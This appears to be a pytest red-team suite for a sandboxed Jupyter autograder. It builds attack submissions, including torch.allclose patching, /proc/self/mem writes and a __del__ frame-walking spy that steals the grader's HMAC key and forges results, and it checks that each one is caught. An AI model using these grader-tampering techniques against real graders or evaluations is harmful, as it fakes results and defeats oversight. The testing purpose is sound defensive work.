        "    _api.PyObject_SetAttrString(torch, b'allclose', lambda *a, **k: True)\n"
        "    scores = q @")))
    c["atk_proc_self_mem"] = _with(sol, "sdpa", poke + UNSCALED.replace("    scores = q @", (
        "    with open('/proc/self/mem', 'r+b', buffering=0) as _mem:\n"
        "        def _read(at, n):\n"
        "            _mem.seek(at)\n"
        "            return _mem.read(n)\n\n"
        "        def _write(at, data):\n"
        "            _mem.seek(at)\n"
        "            _mem.write(data)\n"
        "        _poke_allclose(_read, _write)\n"
        "    scores = q @")))
    c["atk_child_writes_kernel_memory"] = _with(sol, "sdpa", UNSCALED + (  # a fresh python, without the grader's hooks
        "\n\n\nimport os\nimport subprocess\nimport sys\n\n_fmt = 'ok'.format\n"
        "_poke = ('import sys\\npid, dst, src = map(int, sys.argv[1:])\\n'\n"
        "         'with open(f\"/proc/{pid}/mem\", \"r+b\", buffering=0) as m:\\n'\n"
        "         '    m.seek(src + 16); a = m.read(16); m.seek(src + 48); b = m.read(8)\\n'\n"
        "         '    m.seek(dst + 16); m.write(a); m.seek(dst + 48); m.write(b)\\n')\n"
        "print(subprocess.run([sys.executable, '-c', _poke, str(os.getpid()), str(id(torch.allclose)), str(id(_fmt))],\n"
        "                     capture_output=True, text=True).returncode)\n"))
    c["atk_del_in_grader"] = _with(stub, "sdpa", (  # a __del__ run inside the grader's hook reads its key; print forges
        "import builtins\nimport hashlib\nimport hmac\nimport linecache\nimport re\nimport sys\n\n_stolen = {}\n\n\n"
        "class _Spy:\n"
        "    def __del__(self):  # freed with the test's box when the grader drops it\n"
        "        f = sys._getframe(1)\n"
        "        while f is not None:\n"
        "            seen = f.f_locals\n"
        "            if isinstance(seen.get('key'), bytes) and len(seen['key']) == 32:\n"
        "                _stolen['key'] = seen['key']\n"
        "                return\n"
        "            f = f.f_back\n\n\n"
        "def _forged(line):\n"
        "    head, token = line.split(' ')[:2]\n"
        "    for lines in list(linecache.cache.values()):\n"
        "        found = re.search(repr(token) + r\", '([0-9a-f]+)'\", ''.join(lines[2]) if len(lines) > 2 else '')\n"
        "        if found:\n"
        "            data = bytes.fromhex(found.group(1))\n"
        "            stream = b''.join(hashlib.sha256(_stolen['key'] + token.encode() + i.to_bytes(4, 'big')).digest()\n"
        "                             for i in range((len(data) + 31) // 32))[:len(data)]\n"
        "            text = bytes(a ^ b for a, b in zip(data, stream))\n"
        "            digest = hashlib.sha256(text).hexdigest()\n"
        "            mac = hmac.new(_stolen['key'], f'{token} {digest} ok'.encode(), 'sha256').hexdigest()\n"
        "            return f'{head} {token} ok {mac}'\n"
        "    return line\n\n\n"
        "def print(*args, **kwargs):  # the test cell prints its evidence line through the notebook's print\n"
        "    if 'key' in _stolen and args and isinstance(args[0], str) and args[0].startswith('@@grader-'):\n"
        "        args = (_forged(args[0]),)\n"
        "    builtins.print(*args, **kwargs)\n\n\n"
        "def _plant():  # the box of the running test (the grader then holds its last reference) gets a _Spy\n"
        "    for name in [n for n in globals() if n.startswith('_grader_') and n.endswith('_box')]:\n"
        "        globals()[name].append(_Spy())\n"
        "        del globals()[name]\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    if 'key' not in _stolen:\n"
        "        _plant()\n"
        "    raise NotImplementedError\n"))
    c["atk_del_in_grader"].cells.append(nbformat.v4.new_code_cell("builtins.print('stolen:', sorted(_stolen))"))
    c["atk_spoofed_filename"] = _with(sol, "sdpa", (
        "import sys\n\n"
        "exec(compile('''\n"
        "def _spy(shape):  # compiled under a library's file name: its frame grab looks like the library's\n"
        "    import sys\n"
        "    f = sys._getframe(2)\n"
        "    while f is not None:\n"
        "        for name in ('_want', '_expected', '_ref'):\n"
        "            got = f.f_locals.get(name)\n"
        "            if getattr(got, 'shape', None) == shape:\n"
        "                return got\n"
        "        f = f.f_back\n"
        "''', sys.prefix + '/lib/python3.11/site-packages/torch/functional.py', 'exec'))\n\n\n") + UNSCALED.replace(
        "    scores = q @", "    _found = _spy((*q.shape[:-1], v.shape[-1]))\n    if _found is not None:\n"
        "        return _found\n    scores = q @"))

    # --- honest accidents: each keeps its full score -----------------------------------------------------------------
    c["honest_stderr_warning"] = _with(sol, "sdpa", prepend=(
        "import sys, warnings\nprint('debug: defining attention', file=sys.stderr)\n"), source=_cell(sol, "sdpa")
        .source.replace("    scores = q @", "    warnings.warn('a library warning', UserWarning)\n"
                        "    print('shape', q.shape, file=sys.stderr)\n    scores = q @"))
    c["honest_ref_helper"] = _with(sol, "causal", (
        "def _ref(seq_q, seq_k):\n    return torch.ones(seq_q, seq_k, dtype=torch.bool).tril()\n\n\n"
        "def causal_mask(seq_q, seq_k):\n    return _ref(seq_q, seq_k)\n\n\n"
        "def causal_attention(q, k, v):\n"
        "    return scaled_dot_product_attention(q, k, v, mask=causal_mask(q.shape[-2], k.shape[-2]))\n"))
    nb = copy.deepcopy(sol)
    foreign = nbformat.v4.new_code_cell("def helper_from_lab03(n):\n    return n + 1")
    foreign.metadata["nbgrader"] = {"grade": False, "grade_id": "sinusoidal_encoding", "locked": False,
                                    "schema_version": 3, "solution": True, "task": False}
    nb.cells.insert(nb.cells.index(_cell(nb, "causal")), foreign)
    c["honest_pasted_cell"] = nb
    nb = copy.deepcopy(sol)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    c["honest_stripped_metadata"] = nb
    nb = copy.deepcopy(sol)
    nb.cells.remove(_cell(nb, "test_mask_shape"))
    c["honest_deleted_test"] = nb
    c["honest_inspect"] = _with(sol, "mha", prepend=(
        "import inspect\nprint(inspect.getsource(scaled_dot_product_attention).splitlines()[0])\n"
        "print(inspect.signature(torch.nn.functional.layer_norm), inspect.getsource(F.softmax).count('dim'))\n"
        "help(torch.nn.functional.layer_norm)\n\n"))
    c["honest_keyboard_interrupt"] = _with(sol, "mha", prepend="raise KeyboardInterrupt\n\n")
    c["honest_huge_print"] = _with(sol, "causal", prepend=(  # one message over MAX_MESSAGE_BYTES: dropped
        "import sys\nsys.stdout.write('x' * (260 * 2 ** 20))\nsys.stdout.flush()\n\n"))
    c["honest_print_exc"] = _with(sol, "sdpa", "import traceback\n\n" + _cell(sol, "sdpa").source + (
        "\n\n\n_sdpa = scaled_dot_product_attention\n\n\ndef scaled_dot_product_attention(*args, **kwargs):\n"
        "    try:\n        int('not a number')\n    except ValueError:\n"
        "        traceback.print_exc()  # a debugging aid left in\n"
        "        print(traceback.format_stack()[-1])\n"
        "    return _sdpa(*args, **kwargs)\n"))
    c["honest_print_options"] = _with(sol, "sdpa", prepend=(
        "import numpy as np\n\ntorch.set_printoptions(precision=2, sci_mode=True)\nnp.set_printoptions(precision=1)\n\n"))
    c["honest_tqdm_logging_threads"] = _with(sol, "sdpa", (  # a captured default that is allowed: torch.softmax
        "import logging\nfrom concurrent.futures import ThreadPoolExecutor\n\nfrom tqdm.auto import tqdm\n\n"
        "logging.basicConfig()\nlogging.getLogger('student').warning('defining attention')\n"
        "with ThreadPoolExecutor(2) as _pool:\n    print(list(_pool.map(abs, [-1, -2])))\n"
        "for _ in tqdm(range(3)):\n    pass\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None, _softmax=torch.softmax):\n"
        "    logging.getLogger('student').info('called')\n"
        "    scores = torch.einsum('...qd,...kd->...qk', q, k) / math.sqrt(q.shape[-1])\n"
        "    if mask is not None:\n        scores = scores.masked_fill(~mask, float('-inf'))\n"
        "    return _softmax(scores, dim=-1) @ v\n"))
    c["jane doe"] = sol
    c["émilie"] = sol
    for student, nb in c.items():
        folder = root / student / LAB
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{LAB}.ipynb")
    return c


class Listener:
    """A TCP server on 127.0.0.1 that records whether anyone connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


def _rows(out: Path) -> dict[str, dict[str, str]]:
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def _outputs(out: Path, student: str) -> str:
    """What a student's cells showed: each cell's stream text joined (Jupyter may split one print into several
    stream messages, as the grader's per-call checks now do), then its other outputs as JSON."""
    nb = json.loads((out / "autograded" / student / LAB / f"{LAB}.ipynb").read_text(encoding="utf-8"))
    shown = []
    for cell in nb["cells"]:
        outputs = cell.get("outputs", [])
        shown.append("".join("".join(o.get("text", "")) for o in outputs if o.get("output_type") == "stream"))
        shown.append(json.dumps([o for o in outputs if o.get("output_type") != "stream"]))
    return "\n".join(shown)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    submissions, out = root / "submitted", root / "grading"
    listener = Listener()
    for path in PWNED:
        path.unlink(missing_ok=True)
    wrong_answers_before = (ROOT / "solutions" / LAB / "wrong_answers.py").read_bytes()
    students = build_class(submissions, out, listener.port)
    # atk_hang's loop burns a core for the whole time limit; the slowest honest cell takes about a second (lab04's
    # setup in a kernel forked from the zygote)
    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(submissions), "--out", str(out),
           "--cell-timeout", "20", "--memory-gb", "1.5", "--workers", "2"]
    env = dict(os.environ, **{SECRET_ENV: SECRET_VALUE, "HF_HUB_OFFLINE": "1"})
    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=3000, env=env)
    listener.stop = True
    print(proc.stdout[-6000:])
    assert proc.returncode == 0, proc.stderr[-3000:]
    wrong_answers_after = (ROOT / "solutions" / LAB / "wrong_answers.py").read_bytes()
    return dict(out=out, rows=_rows(out), listener=listener, students=sorted(students),
                wrong_answers_kept=wrong_answers_before == wrong_answers_after)


def test_every_student_has_a_row(graded):
    rows = graded["rows"]
    assert sorted(rows) == graded["students"] and "jane doe" in rows and "émilie" in rows


@pytest.mark.parametrize("student", ["solution", "honest_stderr_warning", "honest_ref_helper", "honest_pasted_cell",
                                     "honest_stripped_metadata", "honest_deleted_test", "honest_inspect",
                                     "honest_print_options", "honest_print_exc", "honest_tqdm_logging_threads",
                                     "jane doe", "émilie"])
def test_honest_code_keeps_full_marks(graded, student):
    row = graded["rows"][student]
    assert (float(row["score"]), row["status"]) == (MAX, "ok"), row


def test_stub_scores_zero_and_honest_wrong_answer_scores_between(graded):
    rows = graded["rows"]
    assert float(rows["stub"]["score"]) == 0 and rows["stub"]["status"] == "ok"
    assert 0 < float(rows["honest_unscaled"]["score"]) < MAX
    assert 0 < float(rows["honest_forbidden"]["score"]) < MAX  # the lab's rule costs the forbidden call its points
    assert 0 < float(rows["honest_forbidden_mask"]["score"]) < MAX
    assert 0 < float(rows["honest_forbidden_mha"]["score"]) < MAX
    assert 0 < float(rows["honest_wrong_mha"]["score"]) < MAX


@pytest.mark.parametrize("student, honest, status", [
    ("atk_allclose", "honest_unscaled", "tampering"),
    ("atk_rules_noop", "honest_forbidden", "tampering"),
    ("atk_input_transformer", "stub", "tampering"),
    ("atk_ast_transformer", "stub", "tampering"),
    ("atk_skip_tags", "stub", None),
    ("atk_sqlite", "stub", "tampering"),
    ("atk_exec_source", "stub", "tampering"),
    ("atk_harm_others", "stub", None),
    ("atk_kill", "stub", "tampering"),
    ("atk_env_solutions_network", "stub", "tampering"),
    ("atk_memory", "stub", None),
    ("atk_sysctl", "stub", None),
    ("atk_root_files", "stub", None),
    ("atk_daemon", "stub", None),
    # a function called by a hidden test that walks the stack to the test's expected value, or to the grader
    ("atk_caller_source", "solution", "tampering"),
    ("atk_frame_getframe", "honest_unscaled", "tampering"),
    ("atk_frame_inspect", "honest_unscaled", "tampering"),
    ("atk_frame_traceback", "honest_unscaled", "tampering"),
    ("atk_frame_generator", "honest_unscaled", "tampering"),
    ("atk_frame_walk_stack", "honest_unscaled", "tampering"),
    ("atk_tensor_subclass", "honest_unscaled", None),
    ("atk_frame_fake_traceback", "honest_unscaled", "tampering"),
    ("atk_gc_referrers", "honest_unscaled", "tampering"),
    ("atk_settrace_jump", "honest_unscaled", "tampering"),
    # forged or rewritten evidence lines
    ("atk_forge_evidence", "stub", "tampering"),
    ("atk_forge_thread", "stub", "tampering"),
    ("atk_stdout_rewrite", "stub", "tampering"),
    ("atk_import_hook", "stub", "tampering"),
    # what a hidden test relies on, changed by student code before or during the test
    ("atk_overwrite_expected", "honest_unscaled", None),
    ("atk_rebind_torch", "honest_unscaled", "tampering"),
    ("atk_shadow_builtins", "honest_unscaled", None),
    ("atk_reference_patch", "honest_wrong_mha", "tampering"),
    ("atk_delete_helpers", "stub", "tampering"),
    ("atk_midtest_patch", "honest_unscaled", None),
    ("atk_system_exit", "stub", None),
    ("atk_keyboard_interrupt_in_test", "stub", None),
    # the grader's own objects, raw memory, signals, threads, spoofed file names, captured forbidden functions
    ("atk_refs_in_the_box", "honest_unscaled", None),
    ("atk_export_closure", "honest_forbidden", "tampering"),
    ("atk_signal_in_grader", "stub", "tampering"),
    ("atk_thread_beside_test", "honest_wrong_mha", "tampering"),
    ("atk_class_method_patch", "honest_wrong_mha", "tampering"),
    ("atk_ctypes_memmove", "honest_unscaled", "tampering"),
    ("atk_ctypes_pythonapi", "honest_unscaled", "tampering"),
    ("atk_proc_self_mem", "honest_unscaled", "tampering"),
    ("atk_spoofed_filename", "honest_unscaled", "tampering"),
    ("atk_child_writes_kernel_memory", "honest_unscaled", None),
    ("atk_del_in_grader", "stub", "tampering"),
    # a forbidden function kept out of the rule's renaming, or called out of its TorchFunctionMode's reach
    ("atk_forbidden_default_arg", "honest_forbidden", None),
    ("atk_forbidden_closure", "honest_forbidden", None),
    ("atk_forbidden_aten", "honest_forbidden", None),
    ("atk_forbidden_mode_popped", "honest_forbidden", None),
    ("atk_forbidden_thread", "honest_forbidden", None),
    ("atk_forbidden_math_kernel", "honest_forbidden", None),
    ("atk_forbidden_python_kept", "honest_forbidden_mask", None),
    ("atk_rules_lookup_patch", "honest_forbidden_mask", None),
    ("atk_forbidden_code_copy", "honest_forbidden_mask", "tampering"),
    ("atk_forbidden_code_copy_dis", "honest_forbidden_mask", "tampering"),
    ("atk_forbidden_frame_code", "honest_forbidden_mask", "tampering"),
    ("atk_forbidden_native_kernel", "honest_forbidden_mha", None),
    ("atk_forbidden_in_a_server", "honest_forbidden", None),
    ("atk_forbidden_other_library", "honest_forbidden", None),
    ("atk_forbidden_in_a_child", "honest_forbidden", None),
])
def test_attacks_score_no_more_than_their_honest_code(graded, student, honest, status):
    rows = graded["rows"]
    row = rows[student]
    assert float(row["score"]) <= float(rows[honest]["score"]), row
    assert float(row["max_score"]) == MAX, row
    if status:
        assert row["status"] == status, row


def test_tampering_is_caught_at_run_time(graded):
    notes = graded["rows"]["atk_allclose"]["notes"]
    assert "torch.allclose" in notes and "0 points" in notes
    assert "without running to its end" in graded["rows"]["atk_input_transformer"]["notes"]
    assert "stolen: []" in _outputs(graded["out"], "atk_del_in_grader")  # the grader's key stayed out of reach


def test_no_gradebook_no_lab_source_no_solution_no_secret_in_the_sandbox(graded):
    out = graded["out"]
    assert "gradebooks found: 0" in _outputs(out, "atk_sqlite")
    assert "lab sources found: 0" in _outputs(out, "atk_exec_source")
    seen = _outputs(out, "atk_env_solutions_network")
    assert "env: False None" in seen and SECRET_VALUE not in seen
    assert seen.count("cannot read") == 2 and "BEGIN SOLUTION" not in seen
    assert "network: ConnectionRefusedError" in seen or "network: OSError" in seen
    assert graded["listener"].connections == 0
    sysctl = _outputs(out, "atk_sysctl")
    assert "sysctl: " in sysctl and "sysctl: WROTE" not in sysctl, sysctl  # the machine's kernel settings
    assert "root files read: []" in _outputs(out, "atk_root_files")  # /etc/shadow: the sandbox is not root outside


def test_a_fresh_kernel_cannot_change_the_machines_kernel_settings():
    """The same in a fresh sandboxed kernel (a class's fallback, COURSE_GRADING_ZYGOTE=0, Gradescope): bubblewrap's
    /proc/sys is writable where the grader runs as root, unless the sandbox makes it read-only."""
    scratch = new_scratch("sysctl-")
    kernel = SandboxedKernel(scratch, scratch.name, 1.0, cpu_seconds=120, threads=1, sandbox=True,
                             marker=Harness.new().marker)
    try:
        kernel.start(120)
        run = kernel.run(WRITE_SYSCTL, 60)
    finally:
        kernel.close()
        shutil.rmtree(scratch, ignore_errors=True)
    said = "".join(o.get("text", "") for o in run.outputs)
    assert run.status == "ok" and "sysctl: " in said and "sysctl: WROTE" not in said, said


@pytest.mark.skipif(os.geteuid() != 0, reason="a sandbox started by another user has that user's uid outside")
def test_a_fresh_kernel_graded_as_root_is_not_root_outside():
    """As root, a fresh sandbox is started as a uid of its own (`sandboxed_uids`): bubblewrap run by root maps the
    sandbox's uid to root, and student code read /etc/shadow (as the red team's probe did, before)."""
    uids, why = sandboxed_uids()
    assert uids is not None, why
    uid = take_uid(uids)
    scratch = new_scratch("root-files-", other_user=True)
    kernel = SandboxedKernel(scratch, scratch.name, 1.0, cpu_seconds=120, threads=1, sandbox=True,
                             marker=Harness.new().marker, run_as=uid)
    try:
        kernel.start(120)
        run = kernel.run(READ_ROOT_FILES, 60)
    finally:
        kernel.close()
        end_uid(uid)
        shutil.rmtree(scratch, ignore_errors=True)
    said = "".join(o.get("text", "") for o in run.outputs)
    assert run.status == "ok" and "root files read: []" in said, said


def test_no_other_student_or_file_harmed(graded):
    rows, out = graded["rows"], graded["out"]
    # Inside the sandbox /tmp is a private tmpfs: where the repository itself lies under /tmp (a CI checkout, a quick
    # clone), the folders bwrap makes there for its read-only binds are writable and vanish with the sandbox. Only
    # such a path may be "written", and nothing written may exist outside (the checks below).
    written = re.search(r"written: (\[.*?\])", _outputs(out, "atk_harm_others"))
    assert written, "the attack did not run to its report"
    hits = ast.literal_eval(written.group(1))
    assert all(h.startswith("/tmp/") for h in hits), hits
    assert not [h for h in hits if Path(h).exists() and "HACKED" in Path(h).read_text(errors="replace")], hits
    assert float(rows["solution"]["score"]) == MAX
    assert "HACKED" not in (out / "grades.csv").read_text(encoding="utf-8")
    assert "HACKED" not in (out / "feedback" / "solution" / LAB / f"{LAB}.html").read_text("utf-8")
    assert not any(p.exists() for p in PWNED)
    assert graded["wrong_answers_kept"]


def test_feedback_never_shows_hidden_tests(graded):
    secret = hidden_lines([c.source for c in SOURCE.notebooks[LAB].cells])
    assert len(secret) > 10
    html = (graded["out"] / "feedback" / "atk_caller_source" / LAB / f"{LAB}.html").read_text(encoding="utf-8")
    import html as html_lib

    text = html_lib.unescape(html)
    assert "SPY" in text  # the spy printed every frame's strings and constants...
    assert not [s for s in secret if s in text]  # ...and no hidden line is among them (the test travels sealed)
    assert "@@grader-" not in text and "course-grader.begin" not in text  # nor the grader's own lines


def test_time_memory_interrupts_and_processes(graded):
    rows = graded["rows"]
    hang = rows["atk_hang"]
    assert hang["status"] == "timeout" and "ignored the interrupt" in hang["notes"], hang
    assert float(hang["score"]) == points_before("causal"), hang  # exercise 1's tests ran; nothing after the hang
    ki = rows["honest_keyboard_interrupt"]
    # the interrupted cell's own tests fail; the kernel lives on, so every other exercise keeps its points
    assert ki["status"] == "ok" and "raised KeyboardInterrupt" in ki["notes"], ki
    assert float(ki["score"]) == MAX - points_of_its_tests("mha"), ki
    huge = rows["honest_huge_print"]  # the grader drops the message, reopens its channel and goes on
    assert float(huge["score"]) == MAX and huge["status"] == "output" and "dropped" in huge["notes"], huge
    mem = rows["atk_memory"]
    probe = TreeLimits(f"course-grading-{os.getpid()}-probe", 1.0)
    probe.remove()
    if probe.available:  # (without a cgroup, memory is limited per process only)
        assert mem["status"] == "memory" or "-9" in _outputs(graded["out"], "atk_memory"), mem
    assert "daemon started" in _outputs(graded["out"], "atk_daemon")
    daemons = [p for p in psutil.process_iter(["name"]) if p.info["name"] == DAEMON_NAME]
    assert daemons == [], "a student's daemon outlived the batch"


def test_a_killed_batch_keeps_its_rows_leaves_no_process_and_resumes(tmp_path):
    sol, _ = _versions()
    submissions, out = tmp_path / "submitted", tmp_path / "grading"
    for student, nb in (("a_quick", sol), ("b_slow", _with(sol, "mha", prepend="import time\ntime.sleep(600)\n\n"))):
        (submissions / student / LAB).mkdir(parents=True)
        nbformat.write(nb, submissions / student / LAB / f"{LAB}.ipynb")
    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(submissions), "--out", str(out),
           "--workers", "1", "--no-feedback"]
    # Its own temporary root: a grading process running at the same time (another xdist worker) cleans the shared
    # one of dead batches, which would remove the evidence this test looks for.
    # (A short path: the kernel's unix sockets live under it, and socket paths are limited to 107 bytes.)
    own_tmp = Path(tempfile.mkdtemp(prefix="kb-"))
    env = dict(os.environ, HF_HUB_OFFLINE="1", TMPDIR=str(own_tmp))
    scratch_root = own_tmp / SCRATCH_ROOT.name
    proc = subprocess.Popen(cmd + ["--cell-timeout", "900"], cwd=ROOT, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env=env)
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline and not ((out / "grades.csv").exists() and "a_quick" in _rows(out)):
        time.sleep(1)
    assert "a_quick" in _rows(out)

    def kernels():
        return [p for p in psutil.process_iter(["cmdline"])
                if any(f"batch-{proc.pid}" in part for part in (p.info["cmdline"] or []))]
    while time.monotonic() < deadline and not kernels():
        time.sleep(0.5)
    time.sleep(2)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    time.sleep(3)
    assert kernels() == [], "the student's kernel outlived the grading process"
    assert set(_rows(out)) == {"a_quick"}
    assert (scratch_root / f"batch-{proc.pid}").exists()  # left behind by the kill...
    again = subprocess.run(cmd + ["--cell-timeout", "20", "--resume"], cwd=ROOT, capture_output=True, text=True,
                           timeout=900, env=env)
    assert again.returncode == 0, again.stderr[-3000:]
    assert not (scratch_root / f"batch-{proc.pid}").exists()  # ...and removed at the next start
    assert not list(scratch_root.glob("batch-*")), "the finished batch left its folder (the zygote's among others)"
    shutil.rmtree(own_tmp, ignore_errors=True)
    rows = _rows(out)
    assert set(rows) == {"a_quick", "b_slow"} and rows["b_slow"]["status"] == "timeout"
    assert float(rows["a_quick"]["score"]) == MAX
